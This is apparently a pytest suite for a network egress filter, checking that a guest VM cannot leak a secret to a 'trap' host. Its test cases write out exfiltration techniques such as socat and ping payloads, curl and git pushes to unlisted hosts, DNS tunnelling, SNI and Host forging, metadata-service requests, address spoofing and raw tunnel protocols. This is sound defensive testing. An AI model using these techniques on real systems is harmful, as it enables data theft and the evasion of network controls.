"""A guest that wants a secret out, and a trap that would take it: nothing leaves, and every try is refused at once.

Three names are allowed. Whatever else the guest does, the trap (outside.py) sees no packet at all; where a try goes to the
address of an allowed name, that address may be dialled, and gets no byte.
"""
import socket
import ssl
import tempfile

import pytest

import dnsq
import frames
import lab as laboratory
import tls
from outside import EXACT, PLAIN, SECRET, UDP_PORTS, Outside, Spy
from plan import endpoint, in_url
from programs import REFUSED_S, Inside
from test_quic import chromium
from waiting import wait_until

OFF_LIST = f"{SECRET}.elsewhere.example"
TEXT_TYPES = {"TXT": 16, "NULL": 10, "MX": 15, "SRV": 33, "CNAME": 5, "HTTPS": 65, "DNSKEY": 48}
REFUSED_TYPES = {"ANY": 255, "AXFR": 252, "IXFR": 251}
only_ipv6 = pytest.mark.families("ipv6")


@pytest.fixture(scope="module")
def outside(world, scratch):
    made = Outside(tempfile.mkdtemp(prefix="outside-", dir=scratch), world.plan)
    yield made
    made.close()


@pytest.fixture
def lab(outside, scratch):
    made = laboratory.Lab(outside.world, tempfile.mkdtemp(prefix="test-", dir=scratch))
    yield made
    made.close()


@pytest.fixture
def spy(lab, outside):
    return Spy(lab, outside)


# ---- the trap ----

def test_c22_the_trap_sees_what_leaves(lab, outside, plan):
    """The same tries without a policy: each leaves a packet with the secret in the trap's hands."""
    vm = lab.vm(args=["--default", "allow"])
    inside = Inside(lab, vm)
    outside.leaked()
    say = f"{'tcp6' if plan.header == 40 else 'tcp4'}:{in_url(plan.trap)}:7000"
    for argv, proto, dport in (
        (["socat", "-u", "-", say], frames.TCP, 7000),
        (["socat", "-u", "-", say.replace("tcp", "udp")], frames.UDP, 7000),
        (["ping", "-n", "-c", "1", "-W", "1", "-s", "56", "-p", SECRET.encode().hex(), plan.trap], plan.proto_icmp, None),
    ):
        inside.run(*argv, input=SECRET)
        wait_until(lambda: any(p.proto == proto and p.dst == plan.trap and SECRET.encode() in p.payload and
                               getattr(p, "dport", None) == dport for p in outside.leaked()[0]), 5, f"the secret by {argv[0]}")


# ---- names and addresses that are not listed ----

def test_c22_d04_an_unlisted_name_is_not_even_looked_up(spy):
    """The secret is in the name itself: no resolver outside hears it, whoever asks."""
    spy.curl("--data", SECRET, f"https://{OFF_LIST}/", status=6)  # could not resolve
    spy.refused("dns.denied", ev="dns", name=OFF_LIST)
    spy.run("/usr/bin/python3", "-c", "import sys, urllib.request as r; r.urlopen(sys.argv[1])", f"http://py.{OFF_LIST}/")
    spy.refused("dns.denied", ev="dns", name=f"py.{OFF_LIST}")
    spy.run("node", "-e", "require('https').get(process.argv[1])", f"https://node.{OFF_LIST}/")
    spy.refused("dns.denied", ev="dns", name=f"node.{OFF_LIST}")
    spy.end()


FORGED_CURL = [
    # why, curl's arguments ({trap}: an address that is nobody's; {url}: the same as URLs write it), the port
    ("no name at all", ["https://{url}/" + SECRET], 443),
    ("plain HTTP without a name", ["http://{url}/" + SECRET], 80),
    ("T01 an allowed SNI, sent elsewhere", ["--connect-to", f"{EXACT}:443:{{url}}:443", f"https://{EXACT}/{SECRET}"], 443),
    ("T01 the same by a forged answer", ["--resolve", f"{EXACT}:443:{{trap}}", f"https://{EXACT}/{SECRET}"], 443),
    ("T01 a name under the wildcard", ["--resolve", "x.cdn.example:443:{trap}", f"https://x.cdn.example/{SECRET}"], 443),
    ("T61 an allowed Host, sent elsewhere", ["--header", f"Host: {PLAIN}", "http://{url}/" + SECRET], 80),
    ("T70 the trap as a proxy", ["--proxytunnel", "--proxy", "http://{url}:80", f"https://{EXACT}/{SECRET}"], 80),
    ("T99 the trap as a resolver over HTTPS", ["--doh-insecure", "--doh-url", "https://{url}/dns-query", f"https://{OFF_LIST}/"], 443),
]


@pytest.mark.parametrize("why,arguments,port", FORGED_CURL, ids=[row[0] for row in FORGED_CURL])
def test_c22_c11_t01_an_unlisted_address_gets_no_syn(spy, plan, why, arguments, port):
    spy.run("curl", "--silent", "--insecure", *(a.format(trap=plan.trap, url=in_url(plan.trap)) for a in arguments))
    spy.refused("name.unpinned", proto="tcp", stage="open", dst=endpoint(plan.trap, port))
    spy.end(repeats=int("--doh-url" in arguments))  # which asks for both families


def test_c22_c11_t01_the_names_are_known_and_still_open_no_other_address(spy, plan):
    """All allowed names are pinned, each to its address: the trap is none of them."""
    for name in (EXACT, PLAIN, "one.cdn.example"):
        spy.vm.resolve(name)
    spy.run("openssl", "s_client", "-connect", endpoint(plan.trap, 443), "-servername", EXACT)
    spy.refused("name.unpinned", dst=endpoint(plan.trap, 443))
    spy.connect_refused(plan.trap, 80)
    spy.refused("name.unpinned", dst=endpoint(plan.trap, 80))
    for port in (8443, 7000, 25):  # no rule speaks of these
        spy.connect_refused(plan.trap, port)
        spy.refused("deny.default", dst=endpoint(plan.trap, port))
    spy.connect_refused(plan.shared_trap, 80)  # an allowed address, another name's port
    spy.refused("name.unpinned", dst=endpoint(plan.shared_trap, 80))
    spy.end()


@pytest.mark.parametrize("source_port", [443, 53, 80, 22])
def test_c22_a_source_port_opens_nothing(spy, plan, source_port):
    spy.connect_refused(plan.trap, 7000, source_port)
    spy.refused("deny.default", proto="tcp", dst=endpoint(plan.trap, 7000), src=endpoint(plan.guest, source_port))
    spy.end()


# ---- what is said to the address of an allowed name ----

def s_client(*arguments):
    return ["openssl", "s_client", "-connect", "{there}", *arguments]


def said(name):
    return s_client("-servername", name)


def curl(*arguments):
    return ["curl", "--silent", "--insecure", "--fail", *arguments]


MANY_PROTOCOLS = ",".join(f"protocol-{n}" for n in range(60))
SAID = [
    # why, the program ({there}: the endpoint), the name whose address it is, the port, the reason
    ("T02 no SNI", s_client("-noservername"), EXACT, 443, "name.missing"),
    ("T02 an address as URL", ["curl", "-sk", "https://{there}/"], EXACT, 443, "name.missing"),
    ("T03 the other name of this address", said("evil.shared.example"), EXACT, 443, "name.mismatch"),
    ("T03 a name of nobody", said(OFF_LIST), EXACT, 443, "name.mismatch"),
    ("T01 an allowed name that lives elsewhere", said("one.cdn.example"), EXACT, 443, "name.mismatch"),
    ("T09 a denied name in a hello of two records", [*said("evil.shared.example"), "-max_send_frag", "512", "-alpn", MANY_PROTOCOLS],
     EXACT, 443, "name.mismatch"),
    ("T13 two dots at the end", said(f"{EXACT}.."), EXACT, 443, "name.invalid"),
    ("T14 a denied name in capitals", said("EVIL.Shared.Example"), EXACT, 443, "name.mismatch"),
    ("T15 a control byte", said(f"evil.example\x01.{EXACT}"), EXACT, 443, "name.invalid"),
    ("T16 a dot that only looks like one", said("good\u3002shared.example"), EXACT, 443, "name.invalid"),
    ("T17 an A-label that looks alike", said("xn--god-5na.shared.example"), EXACT, 443, "name.mismatch"),
    ("T18 an address", said("203.0.113.23"), EXACT, 443, "name.invalid"),
    ("T18 an address in hexadecimal", said("0x7f.1"), EXACT, 443, "name.invalid"),
    ("T24 a label of 64 bytes", said("a" * 64 + ".shared.example"), EXACT, 443, "name.invalid"),
    ("T29 a hello for TLS 1.3 alone", [*said("evil.shared.example"), "-tls1_3"], EXACT, 443, "name.mismatch"),
    ("T35 the rule's own text", said("*.cdn.example"), "one.cdn.example", 443, "name.invalid"),
    ("T35 a port", said(f"{EXACT}:443"), EXACT, 443, "name.invalid"),
    ("T35 a user", said(f"user@{EXACT}"), EXACT, 443, "name.invalid"),
    ("T36 a PROXY line before the hello", curl("--haproxy-protocol", f"https://{EXACT}/"), EXACT, 443, "proto.unknown"),
    ("T38 the host's own name", said("localhost"), EXACT, 443, "name.mismatch"),
    ("T39 a suffix without its dot", said("evilcdn.example"), "one.cdn.example", 443, "name.mismatch"),
    ("T39 the allowed name as a prefix", said(f"{EXACT}.evil.example"), EXACT, 443, "name.mismatch"),
    ("T40 the apex of a wildcard", said("cdn.example"), "one.cdn.example", 443, "name.mismatch"),
    ("T40 an empty label", said(f".{EXACT}"), EXACT, 443, "name.invalid"),
    ("T44 a request to begin TLS", [*said("evil.shared.example"), "-starttls", "postgres"], EXACT, 443, "proto.unknown"),
    ("T28 plain HTTP on a port of TLS", curl(f"http://{EXACT}:443/{SECRET}"), EXACT, 443, "proto.unknown"),
    ("T28 TLS on a port of plain HTTP", curl(f"https://{PLAIN}:80/{SECRET}"), PLAIN, 80, "proto.unknown"),
    ("T61 another Host", curl("--header", f"Host: {OFF_LIST}", f"http://{PLAIN}/{SECRET}"), PLAIN, 80, "name.mismatch"),
    ("T62 another authority than Host", curl("--request-target", f"http://{OFF_LIST}/", f"http://{PLAIN}/"), PLAIN, 80, "host.mismatch"),
    ("T64 no Host", curl("--http1.0", "--header", "Host:", f"http://{PLAIN}/{SECRET}"), PLAIN, 80, "name.missing"),
    ("T66 two ways to frame a body", curl("--header", "Transfer-Encoding: chunked", "--header", "Content-Length: 3", "--data", SECRET,
                                          f"http://{PLAIN}/"), PLAIN, 80, "http.malformed"),
    ("T67 HTTP/2 in clear", curl("--http2-prior-knowledge", f"http://{PLAIN}/{SECRET}"), PLAIN, 80, "proto.unknown"),
    ("T67 HTTP/2 by upgrade", curl("--http2", f"http://{PLAIN}/{SECRET}"), PLAIN, 80, "proto.unknown"),
    ("T70 CONNECT through an allowed server", curl("--proxytunnel", "--proxy", f"http://{PLAIN}:80", f"https://{OFF_LIST}/"),
     PLAIN, 80, "http.malformed"),
    ("T70 CONNECT with an allowed Host", curl("--proxytunnel", "--proxy", f"http://{PLAIN}:80", "--proxy-header", f"Host: {PLAIN}",
                                              f"https://{OFF_LIST}/"), PLAIN, 80, "http.malformed"),
    ("T70 a request for another server", curl("--proxy", f"http://{PLAIN}:80", f"http://{OFF_LIST}/"), PLAIN, 80, "name.mismatch"),
]


@pytest.mark.parametrize("why,argv,name,port,reason", SAID, ids=[row[0] for row in SAID])
def test_c22_t03_t61_an_allowed_address_gets_no_byte_for_another_name(spy, why, argv, name, port, reason):
    addr = spy.vm.resolve(name)
    done = spy.run(*(a.replace("{there}", endpoint(addr, port)) for a in argv))
    if argv[0] == "openssl" and reason.startswith("name."):
        assert "SSL alert number 49" in done.stderr, done.stderr
    spy.refused(reason, proto="tcp", stage="bytes", dst=endpoint(addr, port))
    spy.end(dialled={(addr, port)})


def test_c22_t03_pythons_tls_is_told_as_well(spy, plan):
    spy.vm.resolve(EXACT)
    with spy.vm.connect(plan.shared_trap, 443) as sock:
        with pytest.raises(ssl.SSLError, match="ACCESS_DENIED"):
            tls.context().wrap_socket(sock, server_hostname="evil.shared.example")
    spy.refused("name.mismatch", sni="evil.shared.example", dst=endpoint(plan.shared_trap, 443))
    spy.end(dialled={(plan.shared_trap, 443)})


# ---- DNS ----

def test_c22_d04_t94_t113_data_in_questions_goes_no_further(spy):
    """Labels off the list are NXDOMAIN in every type; under an allowed name, types but addresses have no answer."""
    for n, (_, kind) in enumerate({"A": dnsq.A, "AAAA": dnsq.AAAA, **TEXT_TYPES, **REFUSED_TYPES}.items()):
        name = f"{SECRET}-{n}.tunnel.example"
        answer = spy.vm.ask(name, kind)
        assert answer.rcode == dnsq.NXDOMAIN and answer.ede == 15, n
        spy.refused("dns.denied", ev="dns", name=name)
    for name in (EXACT, f"{SECRET}.cdn.example"):
        for kind in TEXT_TYPES.values():
            answer = spy.vm.ask(name, kind)
            assert (answer.rcode, answer.addrs) == (dnsq.NOERROR, [])
        for kind in REFUSED_TYPES.values():
            assert spy.vm.ask(name, kind).rcode == dnsq.REFUSED
        spy.refused("dns.type", ev="dns", name=name)  # for the first one, the others are its repeats
    spy.end()
    assert spy.asked == b""
    assert spy.weir.counter("dns.type") == 2 * len(TEXT_TYPES | REFUSED_TYPES)


def test_c22_d05_t95_labels_under_a_wildcard_are_counted(spy):
    """100 new names in all, whatever they carry; known ones have answers after that, too."""
    budget, more = 100, 30
    assert spy.vm.ask("one.cdn.example").addrs
    for n in range(budget - 1):
        assert spy.vm.ask(f"{n:03}-{'d' * 50}.{'e' * 50}.cdn.example").rcode == dnsq.NXDOMAIN  # the zone's own answer
    for n in range(budget, budget + more):
        name = f"{n:03}-{SECRET}.{'e' * 50}.cdn.example"
        answer = spy.vm.ask(name)
        assert (answer.rcode, answer.ede) == (dnsq.NXDOMAIN, 15)
        spy.refused("dns.budget", ev="dns", name=name)
    assert spy.vm.ask("one.cdn.example").addrs
    spy.end()
    assert spy.asked.count(b"-" + b"d" * 50) >= budget - 1
    assert spy.weir.counter("dns.budget") == more


def test_c22_d03_t96_t98_other_resolvers_hear_nothing(spy, plan):
    """By UDP and TCP weir answers in their place; TLS, HTTPS and QUIC are refused."""
    there = plan.foreign_resolver
    for n, how in enumerate(([], ["+tcp"], ["+noedns"], ["+tcp", "+keepopen"])):
        name = f"n{n}.{OFF_LIST}"
        done = spy.inside.run("dig", f"@{there}", "+tries=1", "+time=5", *how, name, "TXT")
        assert "status: NXDOMAIN" in done.stdout and spy.inside.took < REFUSED_S, done
        spy.refused("dns.denied", ev="dns", name=name, dst=endpoint(there, 53))
    for how, port, reason in (("+tls", 853, "dns.bypass"), ("+https", 443, "name.unpinned"), ("+http-plain", 80, "name.unpinned")):
        spy.run("dig", f"@{there}", "+tries=1", "+time=5", how, OFF_LIST)
        spy.refused(reason, proto="tcp", stage="open", dst=endpoint(there, port))
    spy.datagram_refused(there, 853, SECRET.encode())
    spy.refused("dns.bypass", proto="udp", dst=endpoint(there, 853))
    spy.end()


# ---- git ----

@pytest.fixture
def repository(spy):
    """A repository whose one commit has the secret."""
    for argv in (["init", "--quiet", "repository"], ["-C", "repository", "add", "."],
                 ["-C", "repository", "-c", "user.name=spy", "-c", "user.email=spy", "commit", "--quiet", "-m", SECRET]):
        done = spy.inside.run("git", *argv)
        assert done.returncode == 0, done.stderr
        spy.inside.file("repository/secret", SECRET)
    return spy


PUSHES = [
    # why, the remote, the address it is sent to (None: a name that is not found), the port, the reason
    ("https by name", f"https://{OFF_LIST}/x.git", None, 0, "dns.denied"),
    ("https by address", "https://{trap}/x.git", "trap", 443, "name.unpinned"),
    ("https with an allowed name, sent elsewhere", f"https://{EXACT}/x.git", "trap", 443, "name.unpinned"),
    ("ssh by name", f"ssh://git@{OFF_LIST}/x.git", None, 0, "dns.denied"),
    ("ssh by address", "ssh://git@{trap}/x.git", "trap", 22, "deny.default"),
    ("ssh on another port", "ssh://git@{trap}:443/x.git", "trap", 443, "name.unpinned"),
    ("ssh to an allowed address, on its port of TLS", f"ssh://git@{EXACT}:443/x.git", "shared_trap", 443, "proto.unknown"),
    ("git's own protocol", "git://{trap}/x.git", "trap", 9418, "deny.default"),
]


@pytest.mark.parametrize("why,remote,where,port,reason", PUSHES, ids=[row[0] for row in PUSHES])
def test_c22_a_push_to_an_unlisted_remote(repository, plan, why, remote, where, port, reason):
    spy = repository
    forged = ["-c", f"http.curloptResolve={EXACT}:443:{plan.trap}", "-c", "http.sslVerify=false"] if where == "trap" else []
    spy.run("git", "-C", "repository", *forged, "push", remote.format(trap=in_url(plan.trap)), "HEAD:refs/heads/main",
            env={"GIT_SSH_COMMAND": "ssh -F none -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=known",
                 "GIT_TERMINAL_PROMPT": "0"})
    if where:
        addr = getattr(plan, where)
        spy.refused(reason, proto="tcp", dst=endpoint(addr, port))
        spy.end(dialled={(addr, port)} if where != "trap" else ())
    else:
        spy.refused(reason, ev="dns", name=OFF_LIST)
        spy.end()


# ---- datagrams and pings ----

@pytest.mark.parametrize("where", ["trap", "shared_trap"])
def test_c22_c23_t92_datagrams_are_refused(spy, plan, where):
    """To the trap, and to the address of a name that is allowed by TCP: QUIC, DNS over QUIC, tunnels, time, anything."""
    addr = getattr(plan, where)
    spy.vm.resolve(EXACT)
    for port in UDP_PORTS:
        spy.datagram_refused(addr, port, chromium(0) if port == 443 else SECRET.encode() * 50)
        spy.refused("dns.bypass" if port == 853 else "deny.default", proto="udp", stage="open", dst=endpoint(addr, port))
    with spy.vm.socket(socket.SOCK_DGRAM) as sock:  # rows of them at once, from the port of a resolver
        sock.bind((plan.any, 53))
        for _ in range(20):
            sock.sendto(SECRET.encode() * 50, (addr, 7))
    spy.refused("deny.default", proto="udp", dst=endpoint(addr, 7))
    spy.end(repeats=1)


def test_c22_t147_a_pings_payload_goes_nowhere(spy, plan):
    done = spy.run("ping", "-n", "-c", "1", "-W", "3", "-s", "1000", "-p", SECRET.encode().hex(), plan.trap)
    assert plan.ping_denied in done.stdout, done.stdout
    spy.refused("deny.default", proto="icmp", dst=lambda d: plan.trap in d)
    spy.end()


# ---- addresses in other forms ----

METADATA = {
    "ipv4": ["169.254.169.254", "169.254.170.2", "169.254.170.23", "168.63.129.16", "100.100.100.200", "192.0.0.192"],
    "ipv6": ["fd00:ec2::254", "fd20:ce::254", "64:ff9b::a9fe:a9fe", "2001:db8:113::5efe:a9fe:a9fe"],
}


@pytest.mark.per_family("addrs", **{family: [rows] for family, rows in METADATA.items()})
def test_c22_t124_metadata_services(spy, addrs):
    for addr in addrs:
        spy.curl("--header", "Metadata-Flavor: Google", f"http://{in_url(addr)}/latest/meta-data/", status=7)
        spy.refused("deny.floor.metadata", proto="tcp", stage="open", dst=endpoint(addr, 80))
    spy.end()


FORMS = [
    # why, an IPv6 address that leads to the trap's IPv4 address or to another one that is public, the reason
    ("T130 NAT64", "64:ff9b::9.9.9.9", "name.unpinned"),
    ("T130 NAT64, an address for documents", "64:ff9b::203.0.113.22", "deny.floor.embedded"),
    ("T130 NAT64 for local use", "64:ff9b:1::9.9.9.9", "deny.floor.reserved"),
    ("T129 6to4", "2002:909:909::1", "deny.floor.reserved"),
    ("T129 Teredo", "2001:0:909:909::1", "deny.floor.reserved"),
    ("T129 ISATAP", "2001:db8:113::5efe:9.9.9.9", "deny.floor.embedded"),
]


@only_ipv6
@pytest.mark.parametrize("why,addr,reason", FORMS, ids=[row[0] for row in FORMS])
def test_c22_t128_t129_t130_addresses_within_addresses(spy, why, addr, reason):
    spy.connect_refused(addr, 443)
    text = socket.inet_ntop(socket.AF_INET6, frames.packed(addr))
    spy.refused(reason, proto="tcp", dst=endpoint(text, 443))
    spy.end()


@pytest.fixture
def injector(spy):
    """The spy as root on its own device: frames of any form."""
    made = frames.Injector(spy.vm)
    yield made
    made.close()


@only_ipv6
@pytest.mark.parametrize("addr", ["::ffff:9.9.9.9", "::ffff:203.0.113.22", "::9.9.9.9", "::ffff:0:9.9.9.9"])
def test_c22_t128_t129_forms_that_no_kernel_sends(spy, injector, plan, addr):
    injector.burst([frames.tcp(plan.guest, addr, 4000, 443, frames.SYN, seq=1), frames.udp(plan.guest, addr, 4000, 443, SECRET.encode())])
    injector.fence()
    assert [p.flags & frames.RST for p in injector.answers()] == [frames.RST]
    text = socket.inet_ntop(socket.AF_INET6, frames.packed(addr))
    for proto in ("tcp", "udp"):
        spy.refused("deny.floor.embedded", proto=proto, dst=endpoint(text, 443))
    spy.end()


# ---- fragments ----

def test_c22_t140_t141_fragments(spy, injector, plan):
    """What is whole is judged as a whole. A first piece without a whole TCP header and pieces that overlap are dropped."""
    body = SECRET.encode() * 20

    def datagram(ident):
        return list(frames.fragments(frames.udp(plan.guest, plan.trap, 4000 + ident, 51820, body), 64, ident))

    spy.vm.resolve(EXACT)
    injector.burst(datagram(1))
    spy.refused("deny.default", proto="udp", dst=endpoint(plan.trap, 51820), src=endpoint(plan.guest, 4001))
    first, second, *rest = datagram(2)
    injector.burst([first, second, *datagram(2)[:2], *rest])  # the same bytes, twice: still an overlap
    injector.burst(frames.fragments(frames.tcp(plan.guest, plan.trap, 4003, 443, frames.SYN, seq=1), 8, ident=3))
    injector.fence()
    assert injector.answers() == []
    spy.end()
    assert spy.weir.counter("ip.frag") > 0


# ---- C21: a guest that is root on its own machine ----

def fetch(spy):
    """What is allowed still works: nothing that was tried has broken it. Returns where it went."""
    addr = spy.vm.resolve(PLAIN)
    with spy.vm.connect(addr, 80) as sock:
        sock.sendall(f"POST / HTTP/1.1\r\nHost: {PLAIN}\r\nContent-Length: 0\r\n\r\n".encode())
        sock.shutdown(socket.SHUT_WR)
        assert sock.recv(100).startswith(b"HTTP/1.1 204 ")
    return addr, 80


def try_all(spy, source=None):
    """Begin connections and send datagrams, to the trap and to an allowed address, of which none may ever be answered."""
    for addr, port in ((spy.plan.trap, 443), (spy.plan.trap, 7000), (spy.plan.shared_trap, 443)):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            sock = spy.vm.socket(kind)
            spy.lab.stack.callback(sock.close)
            sock.setblocking(False)
            if source:
                sock.bind((source, 0))
            try:
                sock.connect((addr, port))
                sock.send(SECRET.encode())
            except BlockingIOError:
                pass


@pytest.mark.per_family("source", ipv4=["192.168.127.77/32", "203.0.113.10/32", "10.1.2.3/32"],
                        ipv6=["fd77:6569:72::77/128", "fd77:6569:73::2/128", "2001:db8:113::10/128", "2620:fe::77/128"])
def test_c21_t125_another_address(spy, plan, source):
    """Another guest's, a server's, anybody's: what comes from it is dropped, each packet counted."""
    spy.vm.resolve(EXACT)
    spy.guest.sh(f"{plan.ip} addr add {source} dev eth0 {plan.nodad}")
    try_all(spy, source.partition("/")[0])
    spy.guest.sh(f"{plan.ip} addr del {source} dev eth0")
    spy.end(served={fetch(spy)})
    assert spy.weir.counter("spoof.src") >= 6


@only_ipv6
def test_c21_another_address_of_its_own_network(spy, plan):
    """A guest may have several; each is under the same policy."""
    own = "fd77:6569:72:0:abcd::1"
    spy.guest.sh(f"ip addr add {own}/64 dev eth0 nodad")
    with spy.vm.socket() as sock:
        sock.bind((own, 0))
        with pytest.raises(ConnectionRefusedError):
            sock.connect((plan.trap, 443))
    spy.refused("name.unpinned", dst=endpoint(plan.trap, 443), src=lambda s: s.startswith(endpoint(own, "")))
    spy.end()


def test_c21_another_mac(spy, plan):
    spy.guest.sh("ip link set eth0 address 02:00:00:00:00:66")
    spy.connect_refused(plan.trap, 443)
    spy.refused("name.unpinned", dst=endpoint(plan.trap, 443))
    spy.end(served={fetch(spy)})


@pytest.mark.parametrize("why,via,mac", [
    ("the trap is on this wire, it claims", None, "gateway"),
    ("a neighbour is the router", "stranger", "gateway"),
    ("everybody on the wire is", "stranger", "ff:ff:ff:ff:ff:ff"),
])
def test_c21_another_route(spy, plan, why, via, mac):
    """The frames have nowhere else to go, and are judged as ever."""
    injector = frames.Injector(spy.vm)
    gateway = ":".join(f"{b:02x}" for b in injector.gateway_mac)
    injector.close()
    hop = getattr(plan, via) if via else plan.trap
    spy.guest.sh(f"""
        {plan.ip} neigh replace {hop} lladdr {gateway if mac == "gateway" else mac} dev eth0 nud permanent
        {plan.ip} route add {plan.trap} {"via " + hop if via else ""} dev eth0""")
    spy.connect_refused(plan.trap, 443)
    spy.refused("name.unpinned", proto="tcp", dst=endpoint(plan.trap, 443))
    spy.datagram_refused(plan.trap, 443, SECRET.encode())
    spy.refused("deny.default", proto="udp", dst=endpoint(plan.trap, 443))
    spy.end(served={fetch(spy)})


def test_c21_another_resolver_and_other_hosts(lab, spy, plan):
    """The guest's files say who the names are; weir's pins do not read them."""
    spy.inside = Inside(lab, spy.vm, resolver=plan.foreign_resolver, hosts={EXACT: plan.trap, PLAIN: plan.trap})
    spy.curl(f"https://{OFF_LIST}/", status=6)
    spy.refused("dns.denied", ev="dns", name=OFF_LIST, dst=endpoint(plan.foreign_resolver, 53))
    spy.curl(f"https://{EXACT}/{SECRET}", status=7)
    spy.refused("name.unpinned", dst=endpoint(plan.trap, 443))
    spy.curl(f"http://{PLAIN}/{SECRET}", status=7)
    spy.refused("name.unpinned", dst=endpoint(plan.trap, 80))
    spy.end(served={fetch(spy)})


TUNNELS = {"IP-in-IP": 4, "IPv6": 41, "GRE": 47, "ESP": 50, "AH": 51, "EIGRP": 88, "PIM": 103, "L2TP": 115, "SCTP": 132, "UDP-Lite": 136}


def test_c21_t149_other_protocols(spy, plan):
    """Raw sockets with the secret as payload, to the trap and to an allowed address."""
    spy.vm.resolve(EXACT)
    for proto in TUNNELS.values():
        with spy.guest.socket(plan.family, socket.SOCK_RAW, proto) as sock:
            for addr in (plan.trap, plan.shared_trap):
                sock.sendto(SECRET.encode() * 4, (addr, 0))
    spy.end(served={fetch(spy)})
    dropped = sum(spy.weir.counter(name) for name in ("proto.l3", "ip.options"))
    assert dropped == 2 * len(TUNNELS)


def test_c21_t149_t151_frames_of_other_kinds(spy, injector, plan):
    """VLAN tags, PPPoE, 802.3 with LLC, unknown types; senders that are the gateway or a group; and other receivers."""
    packet = frames.udp(plan.guest, plan.trap, 4000, 51820, SECRET.encode())
    own = injector.eth(injector.ethertype, packet)
    tag = b"\x81\0\0\5"
    unreadable = [own[:12] + tag + own[12:], own[:12] + b"\x88\xa8\0\7" + tag + own[12:], own[:12] + b"\x88\x64" + own[14:],
                  own[:12] + len(packet).to_bytes(2, "big") + packet, own[:12] + b"\x88\xb5" + own[14:],
                  b"\2\0\0\0\0\x77" + own[6:]]
    forged = [own[:6] + mac + own[12:] for mac in (injector.gateway_mac, b"\xff" * 6, b"\1\0\x5e\0\0\1")]
    for frame in (*unreadable, *forged):
        injector.send(frame)
    injector.fence()
    spy.end(served={fetch(spy)})
    assert spy.weir.counter("frame.ethertype") == len(unreadable)
    assert spy.weir.counter("spoof.src") + spy.weir.counter("frame.bad") == len(forged)
